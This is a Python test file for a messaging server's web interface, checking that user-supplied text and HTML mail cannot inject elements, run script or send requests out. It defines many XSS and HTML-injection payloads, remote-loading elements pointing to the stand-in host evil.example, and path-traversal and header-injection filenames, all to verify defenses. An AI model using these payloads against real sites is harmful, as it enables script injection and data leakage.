"""What others write is shown and does nothing: in every field, in mails, and even where escaping should fail."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

import httpx2
import pytest
from markupsafe import Markup

from switchboard.server.web import templates
from tests.lab import envelope_json
from tests.servers import NO_TLS, Opened
from tests.web_house import House, link_of, mail_of, open_house, signed_in, submit_mail
from tests.width import wide

RUNS: Final = "window.canary=1"
_BREAKS: Final = ("", '"', "'", '">', "'>", "</title>", "</bdi></span></a>", "--></style></textarea>")
_ELEMENTS: Final = (
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f'<a href="javascript:{RUNS}">x</a>',
    f'<iframe srcdoc="<script>parent.{RUNS}</script>"></iframe>',
    f"<details open ontoggle={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<body onload={RUNS}>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'</style>",
    '<form action="https://evil.example/"><button>x</button></form>',
    '<div hx-post="/ui/leave" hx-trigger="load"></div>',
    '<div hx-get="https://evil.example/" hx-trigger="load"></div>',
    f'<div hx-on:click="{RUNS}" hx-trigger="load"></div>',
    f'<div hx-vals=\'js:{{a:{RUNS}}}\' hx-get="/ui/" hx-trigger="load"></div>',
    '<div hx-sse:connect="/ui/events?evil"></div>',
    '<div data-hx-post="/ui/leave" data-hx-trigger="load"></div>',
    '<a hx-boost="true" href="/ui/leave">x</a>',
    f" onmouseover={RUNS} x=",
    f' autofocus onfocus="{RUNS}" x="',
    f"{{{{ {RUNS} }}}}{{% raw %}}${{{RUNS}}}",
    f"&lt;script&gt;{RUNS}&#60;/script&#62;",
)
PAYLOADS: Final = tuple(f"{start}{element}" for start, element in product(_BREAKS, _ELEMENTS))


@pytest.fixture
async def house(database_url: str, tmp_path: Path) -> AsyncIterator[House]:
    """A house with messages."""
    async with open_house(database_url, tmp_path / "data") as opened:
        yield opened


class _Shape(HTMLParser):
    """The elements of a page with the names of their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.shape: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append(f"{tag} {' '.join(name for name, _ in attrs)}")


def hostile_envelope(payload: str) -> dict[str, Any]:
    """A message that says it in every field that others write."""
    line = payload.replace("\n", " ")[:200]
    file = {"media_type": line[:100], "filename": line, "size_bytes": 7}
    return envelope_json(
        sender=line,
        thread=line,
        endpoint="bot:house",
        of_sender={"display_name": line},
        payload={"normalized_text": payload, "attachments": [file]},
    )


async def submit_hostile(server: Opened, payload: str) -> str:
    answer = await server.submit(hostile_envelope(payload))
    assert answer.is_success, answer.text
    return str(answer.json()["request_id"])


async def test_no_text_of_others_changes_the_elements_of_a_page(house: House) -> None:
    server, sample = house.server, wide(len(PAYLOADS), 40)
    chosen = PAYLOADS[:: len(PAYLOADS) // sample][:sample]
    ids = {payload: await submit_hostile(server, payload) for payload in ("plain", *chosen)}
    for one in ids.values():
        await server.http.get(f"/v1/messages/{one}/replies", params={"wait_s": 10})
    async with httpx2.AsyncClient(base_url=server.url, verify=NO_TLS, timeout=30) as http:
        await http.post((await link_of(server)).removeprefix(server.url), headers={"origin": server.url})
        plain = _Shape((await http.get(f"/ui/messages/{ids['plain']}")).text).shape
        for payload in chosen:
            page = await http.get(f"/ui/messages/{ids[payload]}")
            assert page.status_code == 200
            assert _Shape(page.text).shape == plain, payload
        allowed = set(plain)
        for path in ("/ui/", "/ui/messages", "/ui/conversations", "/ui/audit"):
            shape = _Shape((await http.get(path)).text).shape
            assert not [one for one in shape if re.search(r"script (?!nonce)|\bon\w+|base |iframe|object", one)]
            assert sum(one.startswith("script") for one in shape) == sum(one.startswith("script") for one in allowed)


@pytest.mark.slow
async def test_in_a_browser_nothing_of_it_runs(chromium: str, house: House) -> None:
    server = house.server
    ids = [await submit_hostile(server, "".join(PAYLOADS[start::8])) for start in range(wide(8, 2))]
    async with signed_in(chromium, server) as tab:
        for path in ("/ui/", "/ui/messages", "/ui/conversations", *(f"/ui/messages/{one}" for one in ids)):
            await tab.open(f"{server.url}{path}")
            assert await tab.evaluate("typeof window.canary") == "undefined"
        assert tab.troubles == []
        assert {one for one in tab.requests if not one.startswith(f"{server.url}/ui/")} == set()


@pytest.mark.slow
async def test_even_where_escaping_fails_nothing_runs_and_nothing_is_sent(
    chromium: str, house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As if a template had printed others' text as it came."""
    monkeypatch.setattr(templates, "escaped", Markup)
    server = house.server
    injected = "".join(one for one in _ELEMENTS if not one.startswith(("<meta", "<body", " ")))
    request_id = await submit_hostile(server, injected)
    async with signed_in(chromium, server) as tab:
        await tab.open(f"{server.url}/ui/messages/{request_id}")
        assert await tab.evaluate("!!document.querySelector('[hx-post], .said svg, .said iframe')"), "it got in"
        await tab.until("htmx.version.length > 0")
        assert await tab.evaluate("typeof window.canary") == "undefined"
        assert [one for one in tab.requests if "leave" in one or "evil" in one] == []
        assert any("Content Security Policy" in one or "CSP" in one for one in tab.troubles)
        await tab.open(f"{server.url}/ui/audit")
        assert "Sign in" not in await tab.text()


_HOSTILE_HTML: Final = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example">
<link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">
<style>@import "https://evil.example/b.css"; body {{ background: url(https://evil.example/c.png) }}
@font-face {{ font-family: x; src: url(https://evil.example/d.woff) }}</style><script>{runs}</script></head>
<body background="https://evil.example/e.png" onload="{runs}">
<p style="background-image: url('https://evil.example/f.png'); color: red">Hello</p>
<div style="list-style: url(https://evil.example/g.png); content: url(https://evil.example/h.png)">x</div>
<img src="https://evil.example/i.png"><img srcset="https://evil.example/j.png 2x" src="cid:none">
<img src="http://127.0.0.1:1/k.png"><img src="//evil.example/l.png"><img src="data:image/svg+xml,<svg onload={runs}>">
<picture><source srcset="https://evil.example/m.png"><img src="cid:pixel"></picture>
<svg><image href="https://evil.example/n.png"/><use href="https://evil.example/o.svg#a"/><script>{runs}</script></svg>
<video src="https://evil.example/p.mp4" poster="https://evil.example/q.png" autoplay></video>
<audio src="https://evil.example/r.mp3" autoplay></audio><object data="https://evil.example/s"></object>
<embed src="https://evil.example/t"><iframe src="https://evil.example/u"></iframe>
<iframe srcdoc="<img src=https://evil.example/v>"></iframe><input type="image" src="https://evil.example/w">
<form action="https://evil.example/x" method="post"><input name="a"><button autofocus>Send</button></form>
<a href="https://evil.example/y" ping="https://evil.example/z" target="_top"
   style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; display: block">Everything is a link</a>
<table background="https://evil.example/0.png"><tr><td background="https://evil.example/1.png">x</td></tr></table>
<math><maction actiontype="statusline" xlink:href="https://evil.example/2">x</maction></math>
<marquee onstart="{runs}">x</marquee><details open ontoggle="{runs}"><summary>x</summary></details>
</body></html>"""


@pytest.mark.slow
async def test_a_mail_as_html_loads_nothing_and_leads_nowhere(chromium: str, house: House) -> None:
    server = house.server
    html = _HOSTILE_HTML.format(runs=RUNS)
    hostile = await submit_mail(server, mail_of("Look", "Text first.", html))
    huge = await submit_mail(server, mail_of("Large", "Large.", f"{html}{'<p>much</p>' * 20_000}"))
    async with signed_in(chromium, server) as tab:
        await tab.open(f"{server.url}/ui/messages/{hostile}")
        assert "Text first." in await tab.text()
        for one in (hostile, huge):
            await tab.open(f"{server.url}/ui/messages/{one}/mail")
            await tab.press("iframe.mail")
            assert await tab.evaluate("location.pathname") == f"/ui/messages/{one}/mail"
            assert "https://evil.example/y" in await tab.text()
        own = f"{server.url}/ui/"
        assert {one for one in tab.requests if not one.startswith((own, "data:image/png"))} == set()
        assert [one for one in tab.troubles if "evil" in one] == []
        document = await tab.evaluate(f"fetch('/ui/messages/{hostile}/html').then(a => a.text())")
    assert not re.search(r"evil\.example|<script|<form|<meta http|\son\w+=|href", document)
    assert "color:red" in document.replace(" ", "")


@pytest.mark.parametrize("name", ["x.html", "x.svg", "../../etc/passwd", 'a"; filename=b.html', "ü\u202e.exe"])
async def test_an_attachment_is_saved_and_never_opened(house: House, name: str) -> None:
    server = house.server
    raw = mail_of("File", "See file.", "<p>See</p>").replace(b"offer.pdf", b"OFFER")
    raw = raw.replace(b'filename="OFFER"', f"filename*=utf-8''{quote(name, safe='')}".encode())
    request_id = await submit_mail(server, raw)
    async with httpx2.AsyncClient(base_url=server.url, verify=NO_TLS, timeout=30) as http:
        await http.post((await link_of(server)).removeprefix(server.url), headers={"origin": server.url})
        found = (await server.http.get(f"/v1/messages/{request_id}")).json()["envelope"]["payload"]["attachments"]
        number = next(n for n, one in enumerate(found) if one["media_type"] == "application/pdf")
        got = await http.get(f"/ui/messages/{request_id}/attachments/{number}")
        assert got.content == b"%PDF-1.4 offer"
        assert got.headers["content-type"] == "application/octet-stream"
        assert got.headers["content-disposition"].startswith("attachment; filename*=UTF-8''")
        assert not re.search(r'[";\s]', got.headers["content-disposition"].partition("''")[2])
        assert got.headers["content-security-policy"].startswith("sandbox")
        assert (await http.get(f"/ui/messages/{request_id}/pictures/{number}")).status_code == 404
